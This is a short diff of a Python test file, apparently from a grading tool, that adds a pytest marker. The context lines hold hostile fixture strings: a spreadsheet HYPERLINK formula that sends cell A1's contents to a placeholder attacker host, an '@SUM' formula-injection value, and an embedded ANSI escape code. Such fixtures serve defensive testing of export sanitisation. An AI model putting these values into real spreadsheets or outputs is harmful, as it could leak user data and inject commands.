@@ -28,6 +28,8 @@ from graders.grading.store import ResultStore
 
 from .test_outputs import result
 
+pytestmark = pytest.mark.graders  # the graders tier: worker worlds, the kit's commands
+
 HOSTILE_LAST = '=HYPERLINK("http://e.vil/?"&A1,"click"), "Quote"\nnew line\x1b[31m'
 HOSTILE_FIRST = "@SUM(1+1)"
 ROSTER = [
